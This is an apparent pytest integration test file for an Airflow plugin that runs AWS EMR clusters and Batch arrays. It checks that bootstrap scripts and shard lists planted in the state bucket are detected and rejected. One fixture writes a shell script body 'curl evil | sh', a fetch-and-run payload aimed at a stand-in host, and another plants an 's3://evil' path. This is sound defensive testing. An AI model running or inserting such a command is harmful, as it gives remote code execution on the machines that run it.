"""A stranger who may write below the state URI plants objects that AWS would run or read."""

from __future__ import annotations

import pytest
from airflow.sdk import DAG

from airflow_batchemr.aws.batch.data_arrays import data_array
from airflow_batchemr.aws.emr.python_env import environments
from airflow_batchemr.ledger import DocumentDiffersError, Ledger
from airflow_batchemr.operators.emr import EphemeralEmrOperator
from airflow_batchemr.operators.emr_cluster import EmrCreateClusterOperator
from tests.integration.batch_engine import clients

RUN_KEY = "2026-11-20T000000Z"


@pytest.fixture
def requirements(tmp_path):
    path = tmp_path / "requirements.txt"
    path.write_text("boto3==1.37.0\n")
    return path


def script_of(requirements, ledger):
    """Name and content of the bootstrap action, and its key."""
    (made,) = environments(clients(), [str(requirements)], requirements.parent).values()
    bucket, _, key = ledger.document_uri(made.name).removeprefix("s3://").partition("/")
    return {"Bucket": bucket, "Key": key}, made.script


def cluster_dag(dag_id, kind, requirements):
    with DAG(dag_id, schedule=None) as dag:
        if kind == "own":
            spark = {"py": "s3://code/x.py", "python_env": str(requirements)}
            EphemeralEmrOperator(task_id="work", cluster={"type": "m5.xlarge"}, steps=[{"spark": spark}])
        else:
            EmrCreateClusterOperator(
                task_id="work", cluster={"type": "m5.xlarge"}, needs={"python_env": [str(requirements)]}, used_by=["x"]
            )
    return dag


@pytest.mark.parametrize("kind", ["own", "shared"])
def test_a_planted_setup_script_does_not_run(aws, state, run_dag, requirements, kind):
    """The task fails before RunJobFlow and names the object, which stays as evidence."""
    dag = cluster_dag(f"planted_{kind}", kind, requirements)
    place, _ = script_of(requirements, Ledger(clients().s3, state).job(dag.dag_id, RUN_KEY, "work"))
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    aws.client("s3").put_object(**place, Body=evil)
    failed = run_dag(dag)
    assert {"work": "failed"} == failed.tasks
    assert 0 == aws.requests()["RunJobFlow"]
    assert f"s3://{place['Bucket']}/{place['Key']} exists with another content" in failed.output
    assert evil == aws.client("s3").get_object(**place)["Body"].read()


def test_the_setup_script_of_an_earlier_try_is_used(aws, state, run_dag, requirements):
    """It has the same content."""
    dag = cluster_dag("planted_same", "shared", requirements)
    place, script = script_of(requirements, Ledger(clients().s3, state).job(dag.dag_id, RUN_KEY, "work"))
    aws.client("s3").put_object(**place, Body=script)
    assert {"work": "success"} == run_dag(dag).tasks
    assert 1 == aws.requests()["RunJobFlow"]


@pytest.mark.parametrize("planted", ["shards/0.txt", "values/0.txt"])
@pytest.mark.parametrize("body", [b"s3://evil/x\n", b"", None], ids=["other", "empty", "longer"])
def test_a_planted_list_of_an_array_is_not_read(aws, tmp_path, planted, body):
    """Neither the lists of the shards, nor the values of the indices. The array is not recorded."""
    s3 = aws.client("s3")
    for number in range(4):
        s3.put_object(Bucket="state", Key=f"{tmp_path.name}/in/{number}", Body=b"x")
    array = {"pack": f"s3://state/{tmp_path.name}/in/", "into": 2}
    first, second = (Ledger(s3, f"s3://state/{tmp_path.name}").job("dag", "day", job) for job in ("first", "second"))
    found = data_array(clients(), first, array, None)
    name = f"{found.folder}/{planted}"
    body = first.get_document(name) + b"s3://evil/x\n" if body is None else body
    key = second.document_uri(name).removeprefix("s3://state/")
    s3.put_object(Bucket="state", Key=key, Body=body)
    with pytest.raises(DocumentDiffersError, match=f"s3://state/{key} exists with another content"):
        data_array(clients(), second, array, None)
    assert second.get_document("array.json") is None
    s3.put_object(Bucket="state", Key=key, Body=first.get_document(name))
    assert found == data_array(clients(), second, array, None)
